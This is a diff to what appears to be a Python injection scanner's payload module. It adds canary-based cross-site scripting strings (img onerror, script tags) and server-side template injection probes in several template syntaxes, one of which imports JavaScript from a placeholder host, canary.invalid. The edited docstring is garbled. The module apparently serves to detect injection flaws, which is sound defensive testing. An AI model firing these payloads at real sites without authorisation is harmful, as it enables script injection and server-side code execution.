@@ -18,7 +18,10 @@ if TYPE_CHECKING:
     from collections.abc import Callable, Mapping
 
 FACTOR = 7919
-"""A template that is evaluated multiplies its number by this."""
+"""A template that is evaluated multiplies its number by this.
+
+How a payload writes that is no JavaScript of literals, since the value of such is shown by design.
+"""
 
 IMAGE = "<img src=x onerror=__canary(§)>"
 SCRIPT = "<script>__canary(§)</script>"
@@ -141,16 +144,16 @@ PAYLOADS: Mapping[str, tuple[str, ...]] = {
         "<isindex action=javascript:__canary(§) type=image>",
     ),
     "template": (
-        "{{ §*7919 }}",
-        "{% set x = §*7919 %}{{ x }}",
-        "{%raw%}{{ ''.__class__.__mro__ }}{%endraw%}{{§*7919}}",
+        "{{ [§]|sum*7919 }}",
+        "{% set x = [§]|sum*7919 %}{{ x }}",
+        "{%raw%}{{ ''.__class__.__mro__ }}{%endraw%}{{[§]|sum*7919}}",
         "${[§*7919][0]|0}",
         "#{[§*7919][0].to_i}",
         "<%= §*7919 %>",
         "{eval('§*7919')}",
         "{(() => §*7919)()}",
         "{globalThis.__canary(§)}",
-        "{{ pathto('§', 1) }}{{ §*7919|safe }}",
+        "{{ pathto('§', 1) }}{{ [§]|sum*7919|safe }}",
         "%(§)s %s {0} {§} {reason}",
         "{import('//canary.invalid/§.js')}",
     ),
